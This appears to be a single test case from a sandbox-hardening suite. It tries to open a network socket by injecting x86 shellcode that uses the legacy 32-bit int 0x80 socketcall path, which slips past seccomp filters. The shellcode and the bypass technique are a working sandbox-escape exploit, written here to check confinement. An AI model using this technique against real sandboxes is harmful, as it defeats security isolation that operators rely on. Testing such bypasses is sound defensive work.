"""Opens a socket by the 32-bit call whose arguments no filter sees.

Threats: E13 E14
Contract: confidentiality
Held by: seccomp alone
Processor: x86_64
"""


def attack():
    page = map_memory(4096, 3, 0x62)  # MAP_32BIT, for pointers of 32 bits
    ctypes.memmove(page + 2048, struct.pack("=III", socket.AF_INET, socket.SOCK_STREAM, 0), 12)
    # push rbx; mov eax, 102; mov ebx, 1; mov ecx, page + 2048; int 0x80; pop rbx; ret
    code = b"\x53\xb8" + struct.pack("<I", 102) + b"\xbb" + struct.pack("<I", 1)
    code += b"\xb9" + struct.pack("<I", page + 2048) + b"\xcd\x80\x5b\xc3"
    ctypes.memmove(page, code, len(code))
    call("mprotect", page, 4096, 5)
    return execute(page) >= 0


run(attack)
